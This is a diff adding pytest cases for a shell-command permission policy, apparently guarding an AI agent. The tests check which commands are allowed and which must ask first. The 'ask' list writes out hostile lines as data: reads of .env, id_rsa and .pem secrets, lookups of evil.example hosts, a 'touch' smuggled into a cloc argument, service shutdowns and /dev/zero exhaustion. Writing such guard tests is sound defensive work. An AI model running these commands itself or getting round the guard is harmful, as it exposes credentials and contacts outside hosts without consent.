@@ -166,6 +166,86 @@ async def test_formats_that_have_signatures_checked_ask(repository: Path, line: 
     assert await decision(line, repository) == "ask"
 
 
+# A6 – A17
+
+ASKED = [
+    ("A6", r"find two -type f -exec uniq {} +"), ("A6", r"find two -type f -exec xxd {} +"),
+    ("A7", r"find . \( -type f -o -type l \) -name x -exec head -1 {} \;"),
+    ("A7", r"find . ! -type f -name x -exec cat {} \;"), ("A7", r"find . -name x -o -type f -exec cat {} \;"),
+    ("A7", r"find . -name x -exec cat {} \; -type f"), ("A7", r"find . -name x -type f -follow -exec cat {} \;"),
+    ("A7", r"find sec -name .env -type f -exec cat {} +"), ("A7", r"find . -type f -name id_rsa -exec cat {} \;"),
+    ("A7", r"find . -type f -name '.env*' -exec cat {} \;"), ("A7", r"find . -type f -name 'id_*' -exec cat {} \;"),
+    ("A7", r"find . -type f -path './private/*' -exec cat {} \;"), ("A7", r"find . -type f -exec cat {} +"),
+    ("A7", "find . -name '*.pem' -type f -print0 | xargs -0 cat"), ("A8", "git ls-files -z | xargs -0 head -1"),
+    ("A8", "grep -h . args.txt | xargs file"), ("A8", "find . | sed 's|^|/root/|' | xargs ls"),
+    ("A8", "find . | grep -h . args.txt | xargs file"), ("A9", "xz -td d.txt.xz"), ("A9", "bzip2 -td d.bz2"),
+    ("A9", "xz -ld d.txt.xz"), ("A10", "cloc --vcs='touch P' ."), ("A10", "brew info ./evil.rb"),
+    ("A10", "brew deps evil.rb"), ("A11", "service nginx stop --status-all"), ("A11", "ip link s lo down"),
+    ("A12", "getent hosts secret.evil.example"), ("A12", "getent ahosts x.example"),
+    ("A12", "docker manifest inspect evil.example/x"), ("A12", "helm show chart https://evil.example/x"),
+    ("A12", "helm show chart oci://evil.example/x"), ("A12", "npm view git+ssh://git@evil.example/x"),
+    ("A12", "npm view a/b"), ("A12", "npm view http://evil.example/x.tgz"), ("A12", "go list -m evil.example/x@latest"),
+    ("A13", "git show HEAD:.npmrc"), ("A13", "git show HEAD:deploy/id_rsa"), ("A13", "git show HEAD~2:config/.env"),
+    ("A13", "git cat-file -p HEAD:credentials.json"), ("A13", "git log -p -- server.key id_rsa"),
+    ("A13", "git blame server.key"), ("A13", "git diff HEAD~1 -- ':(glob)**/*.pem'"), ("A13", "git grep . -- '*.pem'"),
+    ("A13", "git grep . -- private"), ("A13", "git log -L 1,5:.env"), ("A13", "grep -rn . --include=.env ."),
+    ("A13", "grep -rn . --include '*.pem' ."), ("A13", "rg --hidden -g .env ."), ("A13", "rg --hidden -g '.env*' ."),
+    ("A13", "docker compose config"), ("A13", "echo /root/.ssh/*"), ("A14", "rg -L x"),
+    ("A14", "rg --follow x"), ("A14", "ag -f x"), ("A14", "objdump -S evil.o"), ("A15", "cat < /dev/zero"),
+    ("A16", "find -L . -type f -name '*.py' -print0 | xargs -0 cat"),
+    ("A16", "find . -type f -name x -print0 -o -type l -print0 | xargs -0 cat"),
+    ("A16", "find . -name '*.py' -type f -o -print0 | xargs -0 head"), ("A17", "cat /dev/../dev/zero"),
+    ("A17", "head -c 1G /dev/zero"), ("A17", "head -n 1000000000 /dev/zero"), ("A17", "wc -l zero"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("number", "line"), ASKED, ids=[f"{number}: {line}" for number, line in ASKED])
+async def test_what_was_broken_asks(repository: Path, number: str, line: str) -> None:
+    """P2: it runs something, writes, speaks with another machine, or shows what is secret or elsewhere."""
+    (repository / ".tarmacignore").write_text("private/\n")
+    (repository / "private").mkdir()
+    (repository / "zero").symlink_to("/dev/zero")
+    assert await decision(line, repository) == "ask", number
+
+
+ALLOWED = [
+    r"find . -type f -name '*.py' -exec cat {} +",
+    r"find . \( -name '*.py' -o -name '*.txt' \) -type f -exec grep -l x {} +", r"find . -exec file {} \;",
+    r"find . -type f -exec wc -l {} +", "find . -name '*.py' -type f -print0 | xargs -0 cat",
+    "find . -name '*.py' | grep -v test | sort | xargs wc -l", "git ls-files | xargs wc -l",
+    "rg -l TODO | xargs wc -l", "find . -name '*.py' | xargs -I{} basename {}", "gzip -dc x.gz", "xz -dc x.xz",
+    "gzip -l x.gz", "ip link show", "ip a s", "getent group docker", "npm view react version",
+    "npm view @types/node@18 version", "go list -m all", "git diff -- . ':!package-lock.json'", "git show HEAD:a.txt",
+    "git show HEAD:src/b.py", "git diff main..HEAD -- '*.py'", "git log --oneline main..HEAD -- src",
+    "git show 'HEAD^{tree}'", "git check-ignore -v .env", "git ls-files .env", "grep -rn x --include='*.py' .",
+    "grep -rn x --exclude=.env .", "rg x -g '*.ts' -g '!*.pem'", "head -c 16 /dev/urandom",
+    "docker compose config --services", "git show :a.txt", "git log -L 1,1:a.txt", "echo /etc/*-release",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("line", ALLOWED)
+async def test_their_everyday_kin_are_still_allowed(repository: Path, line: str) -> None:
+    """P1."""
+    assert await decision(line, repository) == "allow"
+
+
+@pytest.mark.parametrize(
+    ("line", "words"),
+    [
+        ("grep -Rn -e R x", "grep -rn -e R x"),
+        ("grep -nRI --include='*R' x .", "grep -nrI --include=*R x ."),
+        ("grep --dereference-recursive x", "grep --recursive x"),
+        ("grep -RA R x", "grep -rA R x"),
+        ("diff -r src src", "diff --no-dereference -r src src"),
+    ],
+)
+async def test_a_plan_does_not_follow_links_out_of_the_workspace(repository: Path, line: str, words: str) -> None:
+    """P8 (A14): it looks at all that is below, and no further."""
+    verdict = await Policy().judge(Execute(line, cwd=repository), workspace=repository)
+    assert verdict.plan is not None, verdict.reason
+    assert " ".join(verdict.plan.steps[0].stages[0].words) == words
+
+
 # B
 
 
